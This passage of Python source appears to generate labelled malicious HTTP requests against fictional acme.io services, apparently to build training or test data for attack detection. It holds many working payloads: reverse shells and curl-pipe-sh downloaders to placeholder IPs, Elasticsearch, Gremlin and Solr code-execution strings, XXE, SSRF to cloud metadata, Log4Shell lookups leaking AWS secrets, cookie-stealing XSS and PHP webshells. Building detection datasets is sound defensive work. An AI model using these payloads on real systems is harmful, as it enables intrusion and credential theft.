           cypher_app(r, "' OR 1=1 WITH 1 AS a LOAD CSV FROM 'file:///../../../../root/.ssh/id_rsa' AS l RETURN l //")]
    out.append(dict(method="POST", host="gremlin.acme.io:8182", path="/gremlin",
                    body=js({"gremlin": "g.inject(1).map{ new File('/etc/passwd').text }", "bindings": {}})))
    return out


GREMLIN_RCE = [
    "def out = 'id'.execute().text; out",
    "g.V().limit(1).map{ ['sh', '-c', 'curl -s http://203.0.113.7/s.sh | sh'].execute().text }",
    "java.lang.Runtime.getRuntime().exec(new String[]{'bash','-c','bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'})",
    "new java.lang.ProcessBuilder('cat','/etc/shadow').start().inputStream.text",
    "Class.forName('java.lang.Runtime').getRuntime().exec('touch /tmp/pwn')",
    "g.V().has('name', 'x').sideEffect{ Runtime.getRuntime().exec('wget http://203.0.113.7/m -O /tmp/m') }.iterate()",
]


@attack_gen("rce", "gremlin_groovy")
def a_gremlin(r):
    out = []
    for i, p in enumerate(GREMLIN_RCE):
        out.append(dict(method="POST", host=r.choice(["gremlin.acme.io:8182", "janusgraph.internal.acme.io:8182"]), path="/gremlin",
                        body=js({"gremlin": p, "bindings": {}, "language": "gremlin-groovy"})))
    out.append(dict(method="GET", host="graph-api.acme.io", path="/api/people/friends",
                    params=[("name", "x').next(); 'id'.execute().text; g.V().has('name','y")], qstyle="strict", extra=[bearer(r)]))
    out.append(dict(method="GET", host="gremlin.acme.io:8182", path="/",
                    params=[("gremlin", "Runtime.getRuntime().exec('nc -e /bin/sh 203.0.113.7 4444')")], qstyle=pick_style(r)))
    return out


@attack_gen("generic", "gremlin_traversal")
def a_gremlin_gen(r):
    pays = ["x').drop().iterate();g.V().has('name','y", "x').V().hasLabel('user').valueMap('password').toList();//",
            "x').union(__.V().hasLabel('apikey').values('secret')).fold().next();g.V().has('name','"]
    return [dict(method="GET", host="graph-api.acme.io", path="/api/people/friends", params=[("name", p)], qstyle=pick_style(r), extra=[bearer(r)]) for p in pays]


ES_RCE = [
    {"size": 1, "script_fields": {"x": {"script": {"lang": "painless", "source": "java.lang.Runtime.getRuntime().exec('id')"}}}},
    {"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}},
    {"size": 1, "query": {"filtered": {"query": {"match_all": {}}}}, "script_fields": {"command": {"script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"cat /etc/passwd\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}},
    {"query": {"match_all": {}}, "sort": {"_script": {"type": "string", "order": "asc", "script": {"source": "new ProcessBuilder(['sh','-c','curl http://203.0.113.3/x|sh']).start(); return 'a'"}}}},
    {"runtime_mappings": {"o": {"type": "keyword", "script": {"source": "emit(Runtime.getRuntime().exec('whoami').getInputStream().text)"}}}, "fields": ["o"]},
]


@attack_gen("rce", "es_script")
def a_es_rce(r):
    out = []
    for b in ES_RCE:
        out.append(dict(method="POST", host=r.choice(["es.internal.acme.io:9200", "search-prod.acme.io"]), path="/%s/_search" % r.choice(ES_INDICES), body=js(b)))
    out.append(dict(method="POST", host="es.internal.acme.io:9200", path="/orders/_update_by_query",
                    body=js({"script": {"source": "ctx._source.x = java.lang.Runtime.getRuntime().exec(params.c)", "params": {"c": "id"}}, "query": {"match_all": {}}})))
    out.append(dict(method="GET", host="search-prod.acme.io", path="/_search",
                    params=[("source", js(ES_RCE[1])), ("source_content_type", "application/json")], qstyle="strict"))
    return out


@attack_gen("xxe", "solr_xmlparser")
def a_solr_xxe(r):
    pays = ["{!xmlparser v='<!DOCTYPE a SYSTEM \"http://203.0.113.5:8000/xxe.dtd\"><a></a>'}",
            "{!xmlparser v='<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/ev.dtd\"> %x;]><r/>'}",
            "{!xmlparser v='<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><TermQuery fieldName=\"id\">&e;</TermQuery>'}"]
    out = [dict(method="GET", host=r.choice(["solr.internal.acme.io:8983", "search.acme.io"]), path="/solr/%s/select" % r.choice(["products", "books"]),
                params=[("q", p), ("wt", "json")], qstyle=pick_style(r)) for p in pays]
    out.append(dict(method="GET", host="search.acme.io", path="/solr/products/select",
                    params=[("defType", "xmlparser"), ("q", "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><TermQuery fieldName=\"name\">&xxe;</TermQuery>")]))
    out.append(dict(method="POST", host="solr.internal.acme.io:8983", path="/solr/products/update", params=[("commit", "true")],
                    body='<?xml version="1.0"?>\n<!DOCTYPE add [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<add><doc><field name="id">1</field><field name="name">&x;</field></doc></add>',
                    ctype="application/xml"))
    return out


@attack_gen("xxe", "xml_query_bodies")
def a_xml_xxe(r):
    return [
        dict(method="POST", host="basex.acme.io:8984", path="/rest/catalog", ctype="application/xml", accept="application/xml",
             body='<?xml version="1.0"?>\n<!DOCTYPE query [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>\n<query xmlns="http://basex.org/rest"><text>&xxe;</text></query>'),
        dict(method="POST", host="fuseki.internal.acme.io:3030", path="/ds/data", ctype="application/rdf+xml",
             body='<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; %payload;]>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'),
        dict(method="POST", host="search.acme.io", path="/opensearch/description", ctype="application/opensearchdescription+xml",
             body='<?xml version="1.0"?>\n<!DOCTYPE OpenSearchDescription [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n<OpenSearchDescription xmlns="http://a9.com/-/spec/opensearch/1.1/"><ShortName>&lol3;</ShortName></OpenSearchDescription>'),
        dict(method="POST", host="xmldb.acme.io:8080", path="/api/xml/search", ctype="text/xml",
             body='<?xml version="1.0"?>\n<search xmlns:xi="http://www.w3.org/2001/XInclude"><xpath>//book/title</xpath><xi:include href="file:///etc/passwd" parse="text"/></search>'),
        dict(method="POST", host="soap.acme.io", path="/services/SearchService", ctype="text/xml; charset=utf-8", extra=[["SOAPAction", "\"urn:search\""]],
             body='<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><search><term>&xxe;</term></search></soap:Body></soap:Envelope>'),
        dict(method="POST", host="grafana.acme.io", path="/api/dashboards/icons", ctype="image/svg+xml",
             body='<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="10" y="20">&xxe;</text></svg>'),
        dict(method="POST", host="solr.internal.acme.io:8983", path="/solr/books/update/extract", params=[("literal.id", "d1"), ("commit", "true")], ctype="text/xml",
             body='<?xml version="1.0"?>\n<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]>\n<foo>&xxe;</foo>'),
    ]


@attack_gen("ssrf", "solr_shards")
def a_solr_ssrf(r):
    h = "solr.internal.acme.io:8983"
    return [
        dict(method="GET", host=h, path="/solr/products/select", params=[("q", "*:*"), ("shards", "http://169.254.169.254/latest/meta-data/#")], qstyle=pick_style(r)),
        dict(method="GET", host=h, path="/solr/products/select", params=[("q", "*:*"), ("shards", "127.0.0.1:6379/solr/x"), ("shards.qt", "/select")]),
        dict(method="GET", host=h, path="/solr/products/replication", params=[("command", "fetchindex"), ("masterUrl", "http://attacker.example:8983/solr/evil")]),
        dict(method="GET", host=h, path="/solr/products/debug/dump", params=[("param", "ContentStreams"), ("stream.url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")]),
        dict(method="GET", host="search.acme.io", path="/solr/books/select", params=[("q", "x"), ("shards", "http://[::ffff:a9fe:a9fe]/latest/meta-data/")], qstyle="strict"),
        dict(method="GET", host=h, path="/solr/products/select", params=[("q", "{!join from=id to=id fromIndex=x shards=http://10.0.0.12:8080/manager/html}a")]),
    ]


@attack_gen("lfi", "solr_stream_file")
def a_solr_lfi(r):
    h = "solr.internal.acme.io:8983"
    return [
        dict(method="GET", host=h, path="/solr/products/debug/dump", params=[("param", "ContentStreams"), ("stream.file", "/etc/passwd")]),
        dict(method="GET", host=h, path="/solr/products/debug/dump", params=[("param", "ContentStreams"), ("stream.url", "file:///etc/shadow")]),
        dict(method="GET", host=h, path="/solr/admin/file", params=[("file", "../../../../../../etc/passwd"), ("contentType", "text/plain")]),
    ]


@attack_gen("ssti", "solr_velocity")
def a_solr_vel(r):
    tmpl = ("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName('java.lang.Character')) "
            "#set($str=$x.class.forName('java.lang.String')) #set($ex=$rt.getRuntime().exec('id')) $ex.waitFor() #set($out=$ex.getInputStream()) "
            "#foreach( $i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end")
    return [
        dict(method="GET", host="solr.internal.acme.io:8983", path="/solr/products/select",
             params=[("q", "1"), ("wt", "velocity"), ("v.template", "custom"), ("v.template.custom", tmpl)], qstyle=pick_style(r)),
        dict(method="GET", host="search.acme.io", path="/solr/books/select",
             params=[("q", "*:*"), ("wt", "velocity"), ("v.template", "custom"),
                     ("v.template.custom", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"curl http://203.0.113.2/v\")")]),
    ]


@attack_gen("rce", "solr_dataimport")
def a_solr_dih(r):
    dc = ('<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(){ java.lang.Runtime.getRuntime().exec("id"); }]]></script>'
          '<document><entity name="a" url="http://127.0.0.1/" processor="XPathEntityProcessor" forEach="/feed" transformer="script:poc"/></document></dataConfig>')
    return [
        dict(method="GET", host="solr.internal.acme.io:8983", path="/solr/products/dataimport",
             params=[("command", "full-import"), ("verbose", "false"), ("clean", "false"), ("commit", "false"), ("debug", "true"), ("core", "products"), ("dataConfig", dc)]),
        dict(method="POST", host="solr.internal.acme.io:8983", path="/solr/products/dataimport", ctype="application/x-www-form-urlencoded",
             body=form([("command", "full-import"), ("debug", "true"), ("dataConfig", dc.replace('exec("id")', 'exec("bash -c {echo,Y3VybCAyMDMuMC4xMTMuMi94fHNo}|{base64,-d}|{bash,-i}")'))])),
    ]


@attack_gen("generic", "solr_config_api")
def a_solr_cfg(r):
    return [dict(method="POST", host="solr.internal.acme.io:8983", path="/solr/products/config",
                 body=js({"update-queryresponsewriter": {"startup": "lazy", "name": "velocity", "class": "solr.VelocityResponseWriter",
                                                         "template.base.dir": "", "solr.resource.loader.enabled": "true", "params.resource.loader.enabled": "true"}}))]


def sparql_req(r, sq):
    host = r.choice(["sparql.data.acme.io", "fuseki.internal.acme.io:3030", "graphdb.acme.io:7200"])
    path = r.choice(["/sparql", "/ds/query", "/repositories/kg"])
    k = r.randint(0, 2)
    if k == 0:
        return dict(method="GET", host=host, path=path, params=[("query", sq)], qstyle=pick_style(r), accept="application/sparql-results+json")
    if k == 1:
        return dict(method="POST", host=host, path=path, body=form([("query", sq)]), ctype="application/x-www-form-urlencoded",
                    accept="application/sparql-results+json")
    return dict(method="POST", host=host, path=path, body=sq, ctype="application/sparql-query", accept="application/sparql-results+json")


@attack_gen("ssrf", "sparql_service")
def a_sparql_ssrf(r):
    qs = ["SELECT * WHERE { SERVICE <http://169.254.169.254/latest/meta-data/iam/security-credentials/> { ?s ?p ?o } }",
          "SELECT ?x WHERE { SERVICE <http://localhost:8080/manager/html> { ?x ?y ?z } }",
          "SELECT * WHERE { SERVICE SILENT <http://10.0.0.5:9200/_cat/indices?v> { ?a ?b ?c } }",
          "SELECT * WHERE { SERVICE <http://metadata.google.internal/computeMetadata/v1/?recursive=true> { ?s ?p ?o } }"]
    out = [sparql_req(r, s) for s in qs]
    out.append(dict(method="POST", host="fuseki.internal.acme.io:3030", path="/ds/update", ctype="application/sparql-update",
                    body="LOAD <http://127.0.0.1:2375/containers/json> INTO GRAPH <urn:x>"))
    return out


@attack_gen("lfi", "sparql_load_file")
def a_sparql_lfi(r):
    return [dict(method="POST", host="fuseki.internal.acme.io:3030", path="/ds/update", ctype="application/sparql-update",
                 body="LOAD <file:///etc/passwd> INTO GRAPH <urn:leak>"),
            sparql_req(r, "SELECT * FROM <file:///etc/shadow> WHERE { ?s ?p ?o }")]


@attack_gen("generic", "sparql_injection")
def a_sparql_inj(r):
    pays = ['Smith" . } UNION { ?s <http://acme.io/ns#password> ?o } #',
            'x" ) } ; DROP ALL ; #',
            'a" . } INSERT DATA { <urn:user:mallory> <http://acme.io/ns#role> "admin" } #']
    return [dict(method="GET", host="kg.acme.io", path="/api/people/search", params=[("name", p)], qstyle=pick_style(r), extra=[bearer(r)]) for p in pays]


@attack_gen("ssrf", "clickhouse_url")
def a_ch_ssrf(r):
    h = "clickhouse.internal.acme.io:8123"
    return [
        dict(method="GET", host=h, path="/", params=[("query", "SELECT * FROM url('http://169.254.169.254/latest/meta-data/iam/security-credentials/', RawBLOB)")],
             extra=[["X-ClickHouse-User", "default"]]),
        dict(method="GET", host="dash.acme.io", path="/api/analytics/events",
             params=[("from", "2024-01-01' UNION ALL SELECT * FROM url('http://127.0.0.1:8500/v1/agent/self', 'TSV', 'x String')--")]),
        dict(method="POST", host=h, path="/", ctype="text/plain", body="SELECT * FROM remote('10.0.0.12:9000', system.users)"),
        dict(method="GET", host=h, path="/", params=[("query", "SELECT * FROM s3('http://169.254.169.254/latest/user-data', 'LineAsString')")]),
        dict(method="GET", host=h, path="/", params=[("query", "INSERT INTO FUNCTION url('http://attacker.example:8080/x', 'CSV', 'u String') SELECT name FROM system.users")]),
    ]


@attack_gen("lfi", "clickhouse_file")
def a_ch_lfi(r):
    h = "clickhouse.internal.acme.io:8123"
    return [dict(method="GET", host=h, path="/", params=[("query", "SELECT * FROM file('../../../../etc/passwd', 'LineAsString')")]),
            dict(method="GET", host="dash.acme.io", path="/api/analytics/events",
                 params=[("service", "x' UNION ALL SELECT line FROM file('/etc/clickhouse-server/users.xml', 'LineAsString')--")])]


@attack_gen("generic", "xpath_injection")
def a_xpath(r):
    pays = ["' or '1'='1", "x' or 1=1 or 'a'='a", "'] | //user/*[contains(*,'pass')] | //a['", "' or count(/*)=1 or '",
            "') or string-length(name(/*[1]))>0 or ('"]
    out = []
    for p in pays:
        out.append(dict(method="GET", host=r.choice(["catalog.acme.io", "xmldb.acme.io:8080"]), path=r.choice(["/api/books/by-author", "/login.xq"]),
                        params=[(r.choice(["author", "user", "name"]), p)], qstyle=pick_style(r)))
    return out


@attack_gen("generic", "promql_logql_injection")
def a_promql(r):
    return [
        dict(method="GET", host="status.acme.io", path="/api/service-metrics", params=[("service", 'api"}) or vector(1) or up{job="')]),
        dict(method="GET", host="status.acme.io", path="/api/service-logs", params=[("app", 'nginx"} or {namespace=~".+", job=~".+')]),
        dict(method="GET", host="tenant-portal.acme.io", path="/api/my-logs", params=[("filter", '"} |= "" or {tenant_id!="acme", app=~".*')]),
    ]


@attack_gen("generic", "prototype_pollution")
def a_proto(r):
    return [
        dict(method="POST", host="api.acme.io", path="/graphql", body='{"query":"mutation S($p: JSON!) { saveSearch(prefs: $p) { id } }","variables":{"p":{"__proto__":{"isAdmin":true}}}}'),
        dict(method="GET", host="app.acme.io", path="/api/search", params=[("q", "shoes"), ("constructor[prototype][isAdmin]", "true")]),
        dict(method="GET", host="app.acme.io", path="/api/search", raw_query="q=bag&__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ]


@attack_gen("ssrf", "datasource_and_webhooks")
def a_ssrf_misc(r):
    return [
        dict(method="POST", host="es.internal.acme.io:9200", path="/_reindex",
             body=js({"source": {"remote": {"host": "http://169.254.169.254:80"}, "index": "latest", "query": {"match_all": {}}}, "dest": {"index": "leak"}})),
        dict(method="POST", host="es.internal.acme.io:9200", path="/_reindex",
             body=js({"source": {"remote": {"host": "http://127.0.0.1:9200", "username": "elastic"}, "index": ".security-7"}, "dest": {"index": "copy"}})),
        dict(method="POST", host="influxdb2.acme.io:8086", path="/api/v2/query", params=[("org", "acme")], extra=[["Authorization", "Token " + b64ish(r, 86) + "=="]],
             body=js({"query": "import \"experimental/http\"\nhttp.get(url: \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\")", "type": "flux"})),
        dict(method="POST", host="influxdb2.acme.io:8086", path="/api/v2/query", params=[("org", "acme")], extra=[["Authorization", "Token " + b64ish(r, 86) + "=="]],
             body=js({"query": "import \"sql\"\nsql.from(driverName: \"postgres\", dataSourceName: \"postgresql://postgres@127.0.0.1:5432/postgres\", query: \"SELECT usename, passwd FROM pg_shadow\")", "type": "flux"})),
        dict(method="POST", host="grafana.acme.io", path="/api/datasources", browser=True, cookie=grafana_cookie(r),
             body=js({"name": "tmp", "type": "prometheus", "url": "http://169.254.169.254/latest/meta-data/", "access": "proxy"})),
        dict(method="POST", host="kibana.acme.io", path="/api/actions/connector", browser=True, cookie=kibana_cookie(r), extra=kibana_hdrs(r),
             body=js({"name": "alerts", "connector_type_id": ".webhook", "config": {"url": "http://metadata.google.internal/computeMetadata/v1/instance/attributes/?recursive=true", "method": "post"}})),
        dict(method="POST", host="search.acme.io", path="/api/saved-searches/42/alert",
             body=js({"notify": {"type": "webhook", "url": "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ASAVE%0D%0A"}})),
        dict(method="GET", host="search.acme.io", path="/api/preview", params=[("url", "http://2852039166/latest/meta-data/")]),
        dict(method="POST", host="api.acme.io", path="/graphql",
             body=js({"query": "mutation Import($src: String!) { importSearchIndex(sourceUrl: $src) { id } }", "variables": {"src": "http://localhost:2375/containers/json"}})),
        dict(method="GET", host="grafana.acme.io", path="/api/datasources/proxy/uid/abc123xyz/",
             params=[("url", "http://127.0.0.1:9100/metrics")], browser=True, cookie=grafana_cookie(r)),
    ]


XSS = [
    "<script>alert(document.domain)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//x.attacker.example/'+document.cookie)>",
    "'-alert(document.cookie)-'",
    "</script><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "\"><body onpageshow=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(document.domain) x=\"",
    "javascript:alert(document.cookie)//",
    "<img src=1 oNeRrOr=eval(atob('YWxlcnQoMSk='))>",
]


@attack_gen("xss", "reflected_search")
def a_xss(r):
    out = []
    for i, p in enumerate(XSS):
        k = i % 7
        if k == 0:
            out.append(dict(method="GET", host="shop.acme.io", path="/search", params=[("q", "shoes " + p)], qstyle=pick_style(r), browser=True,
                            accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"))
        elif k == 1:
            out.append(dict(method="GET", host="acme.atlassian.net", path="/issues/", params=[("jql", 'text ~ "%s"' % p)], qstyle="browser", browser=True,
                            cookie=jira_cookie(r), accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"))
        elif k == 2:
            out.append(dict(method="GET", host="prometheus.acme.io", path="/graph", params=[("g0.expr", p), ("g0.tab", "1")], qstyle=pick_style(r), browser=True,
                            accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"))
        elif k == 3:
            out.append(dict(method="GET", host="grafana.acme.io", path="/d/%s/service-health" % alnum(r, 9),
                            params=[("orgId", 1), ("var-host", p), ("from", "now-6h")], qstyle=pick_style(r), browser=True, cookie=grafana_cookie(r),
                            accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"))
        elif k == 4:
            out.append(dict(method="GET", host="docs.acme.io", path="/search", params=[("q", p), ("site", "docs.acme.io")], qstyle=pick_style(r), browser=True,
                            accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"))
        elif k == 5:
            out.append(dict(method="POST", host="kibana.acme.io", path="/api/saved_query/_create", browser=True, cookie=kibana_cookie(r), extra=kibana_hdrs(r),
                            body=js({"attributes": {"title": "errors", "description": p, "query": {"query": "service.name : checkout", "language": "kuery"}}})))
        else:
            out.append(dict(method="GET", host="sentry.acme.io", path="/organizations/acme/issues/", params=[("query", "is:unresolved " + p)], qstyle="browser",
                            browser=True, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"))
    return out


@attack_gen("xss", "highlight_tags")
def a_xss_hl(r):
    return [
        dict(method="GET", host="search.acme.io", path="/solr/books/select",
             params=[("q", "title:potter"), ("hl", "true"), ("hl.fl", "title"), ("hl.simple.pre", "<script>alert(document.cookie)</script>"), ("hl.simple.post", "</b>")]),
        dict(method="POST", host="search-prod.acme.io", path="/products/_search",
             body=js({"query": {"match": {"name": "lamp"}}, "highlight": {"pre_tags": ["<img src=x onerror=alert(document.domain)>"], "post_tags": ["</em>"], "fields": {"name": {}}}})),
        dict(method="GET", host="search.acme.io", path="/solr/books/select",
             params=[("q", "*:*"), ("wt", "xslt"), ("tr", "example.xsl"), ("json.wrf", "<svg onload=alert(1)>")]),
        dict(method="GET", host="search.acme.io", path="/api/search", params=[("q", "lamp"), ("callback", "alert(document.cookie);//")]),
        dict(method="POST", host="api.acme.io", path="/graphql",
             body=js({"query": "mutation S($t: String!) { saveSearch(title: $t, query: \"lamp\") { id } }", "variables": {"t": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"}})),
        dict(method="GET", host="splunk.acme.io", path="/en-US/app/search/search",
             params=[("q", "search index=web | eval x=\"<script>document.location='https://x.attacker.example/?c='+document.cookie</script>\"")], qstyle="browser", browser=True,
             accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        dict(method="GET", host="odata.acme.io", path="/odata/Products", params=[("$filter", "Name eq '<script>alert(1)</script>'")]),
        dict(method="GET", host="kibana.acme.io", path="/app/discover", qstyle="browser", browser=True, cookie=kibana_cookie(r),
             params=[("_a", "(query:(language:kuery,query:'\"><img src=x onerror=alert(1)>'))")],
             accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ]


@attack_gen("crlf", "header_injection")
def a_crlf(r):
    return [
        dict(method="GET", host="reports.acme.io", path="/api/export", raw_query="format=csv&filename=report.csv%0d%0aSet-Cookie:%20sid=attacker"),
        dict(method="GET", host="search.acme.io", path="/search/redirect", raw_query="next=/results%0d%0aLocation:%20https://evil.attacker.example/"),
        dict(method="GET", host="reports.acme.io", path="/api/export",
             raw_query="format=csv%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        dict(method="GET", host="search.acme.io", path="/api/suggest", raw_query="q=lamp&callback=cb%0d%0aX-Injected:%201"),
        dict(method="GET", host="grafana.acme.io", path="/d/abc/logs", raw_query="orgId=1&var-tenant=acme%0d%0aX-Scope-OrgID:%20other-tenant"),
        dict(method="GET", host="www.acme.io", path="/search", raw_query="q=test&lang=en%0d%0aSet-Cookie:%20admin=true;%20Path=/"),
        dict(method="GET", host="reports.acme.io", path="/api/saved-searches/download", raw_query="name=q4%250d%250aContent-Disposition:%2520attachment;filename=x.html"),
        dict(method="GET", host="search.acme.io", path="/go", raw_query="to=/search%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=injection"),
        dict(method="GET", host="www.acme.io", path="/search%0d%0aX-Forwarded-Host:%20evil.attacker.example", raw_query="q=a"),
        dict(method="POST", host="api.acme.io", path="/api/saved-searches/export", body=js({"filename": "results.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"})),
    ]


TRAV = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fshadow", "....//....//....//etc/passwd", "..\\..\\..\\..\\windows\\win.ini",
        "%2e%2e/%2e%2e/%2e%2e/proc/self/environ", "/etc/passwd%00.csv", "..%252f..%252f..%252fetc%252fpasswd", "../../../../var/lib/grafana/grafana.db",
        "..%c0%af..%c0%af..%c0%afetc/passwd", "../../../../../home/splunk/etc/passwd", "file:///etc/passwd"]


@attack_gen("lfi", "export_filename")
def a_lfi(r):
    out = []
    for i, t in enumerate(TRAV):
        host, path, key = [("reports.acme.io", "/api/export", "filename"), ("search.acme.io", "/api/saved-searches/export", "name"),
                           ("kibana.acme.io", "/api/reporting/download", "file"), ("dash.acme.io", "/api/query/results/download", "path")][i % 4]
        if "%" in t:
            out.append(dict(method="GET", host=host, path=path, raw_query="%s=%s&format=csv" % (key, t)))
        else:
            out.append(dict(method="GET", host=host, path=path, params=[(key, t), ("format", "csv")], qstyle=pick_style(r)))
    out += [
        dict(method="GET", host="grafana.acme.io", path="/public/plugins/alertlist/../../../../../../../../etc/passwd"),
        dict(method="GET", host="jupyter.acme.io", path="/user/anna/api/contents/..%2f..%2f..%2f..%2fetc%2fpasswd"),
        dict(method="PUT", host="es.internal.acme.io:9200", path="/_snapshot/leak",
             body=js({"type": "fs", "settings": {"location": "/usr/share/elasticsearch/repo/../../../../etc"}})),
        dict(method="POST", host="influxdb2.acme.io:8086", path="/api/v2/query", params=[("org", "acme")],
             body=js({"query": "import \"csv\"\ncsv.from(file: \"/etc/passwd\", mode: \"raw\")", "type": "flux"})),
    ]
    return out


@attack_gen("rfi", "remote_template")
def a_rfi(r):
    pays = [("template", "http://203.0.113.8/shell.txt?"), ("include", "https://attacker.example/x.php"), ("theme", "ftp://attacker.example/pub/x.php"),
            ("lang", "http://evil.attacker.example/en.php%00"), ("report_tpl", "\\\\attacker.example\\share\\x.php"), ("layout", "https://pastebin.com/raw/Xk3jZq9a?")]
    return [dict(method="GET", host=r.choice(["search.acme.io", "www.acme.io"]), path=r.choice(["/search.php", "/index.php", "/results.php"]),
                 params=[("q", r.choice(PRODUCTS)), (k, v)], qstyle=pick_style(r), browser=True) for k, v in pays]


@attack_gen("php", "wrappers_and_code")
def a_php(r):
    return [
        dict(method="GET", host="search.acme.io", path="/export.php", params=[("format", "php://filter/convert.base64-encode/resource=config.php")]),
        dict(method="GET", host="search.acme.io", path="/export.php", params=[("file", "phar://./uploads/avatar.jpg/test.txt")]),
        dict(method="GET", host="www.acme.io", path="/index.php", params=[("page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==")]),
        dict(method="GET", host="www.acme.io", path="/index.php", params=[("page", "expect://id")]),
        dict(method="POST", host="search.acme.io", path="/api/saved-searches", body=js({"title": "mine", "query": "<?php system($_GET['c']); ?>"})),
        dict(method="GET", host="search.acme.io", path="/search.php", params=[("q", "x"), ("tpl", "zip://uploads/export.zip#shell.php")]),
        dict(method="GET", host="search.acme.io", path="/search.php", params=[("q", "lamp")], browser=True,
             cookie="saved_search=" + quote('O:21:"SavedSearchPreference":1:{s:4:"file";s:11:"/etc/passwd";}')),
        dict(method="GET", host="search.acme.io", path="/search.php", params=[("q", "${@print(md5(31337))}"), ("sort", "date")]),
        dict(method="GET", host="www.acme.io", path="/index.php", params=[("s", "/Index/\\think\\app/invokefunction"), ("function", "call_user_func_array"),
                                                                         ("vars[0]", "system"), ("vars[1][]", "id")]),
    ]


L4J = ["${jndi:ldap://203.0.113.9:1389/a}", "${${lower:j}${lower:n}di:rmi://203.0.113.9:1099/x}", "${${::-j}${::-n}${::-d}${::-i}:dns://x.attacker.example/q}",
       "${jndi:${lower:l}${lower:d}a${lower:p}://log4.attacker.example/e}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9/a}",
       "${jndi:ldaps://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}", "${${upper:j}ndi:${upper:l}dap://203.0.113.9/b}"]


@attack_gen("java", "log4shell_search")
def a_l4j(r):
    out = []
    for i, p in enumerate(L4J):
        k = i % 4
        if k == 0:
            out.append(dict(method="GET", host="search.acme.io", path="/solr/products/select", params=[("q", p), ("wt", "json")], qstyle=pick_style(r)))
        elif k == 1:
            out.append(dict(method="GET", host="acme.atlassian.net", path="/rest/api/2/search", params=[("jql", 'text ~ "%s"' % p)], qstyle=pick_style(r), extra=[basic(r)]))
        elif k == 2:
            out.append(dict(method="POST", host="search-prod.acme.io", path="/logs-*/_search", body=js({"query": {"query_string": {"query": p}}})))
        else:
            out.append(dict(method="GET", host="shop.acme.io", path="/search", params=[("q", r.choice(PRODUCTS))], browser=True, ua=p,
                            extra=[["X-Api-Version", p]] if r.random() < 0.5 else []))
    out.append(dict(method="GET", host="solr.internal.acme.io:8983", path="/solr/admin/cores", params=[("action", "CREATE"), ("name", "${jndi:ldap://203.0.113.9/solr}"), ("wt", "json")]))
    return out


@attack_gen("java", "ognl_spel_deser")
def a_java(r):
    return [
        dict(method="GET", host="wiki.acme.io", path="/" + quote("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}", safe="") + "/"),
        dict(method="GET", host="search.acme.io", path="/search.action", params=[("q", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}")]),
